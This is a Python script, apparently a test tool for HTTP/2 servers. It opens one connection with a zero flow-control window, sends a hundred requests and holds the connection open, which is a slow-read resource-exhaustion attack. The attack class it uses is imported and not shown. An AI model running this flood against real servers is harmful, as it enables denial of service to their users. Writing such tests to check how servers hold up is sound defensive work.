#!/usr/bin/env python3
"""Asks for the same thing a hundred times on one connection of HTTP/2, and takes nothing of it.

Prints a line once the server has said all that it may, and holds the connection until its input ends.
"""

import argparse
import sys
import time

import h2.settings

from floods import Attacker


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("url")
    parser.add_argument("--authority", required=True, help="PEM file of who signs the server's certificate")
    parser.add_argument("--expected", type=int, default=4, help="answers that are waited for")
    arguments = parser.parse_args()
    attacker = Attacker(arguments.url, arguments.authority)
    attacker.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    for _ in range(100):
        attacker.request()
    attacker.send()
    # Whatever needs no window comes within this time, behind the first of it; a server may be late to begin.
    end = time.monotonic() + 30
    while sum(attacker.statuses.values()) < arguments.expected and time.monotonic() < end:
        attacker.receive(0.5)
    attacker.receive(2)
    print(f"{sum(attacker.statuses.values())} answers have begun", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
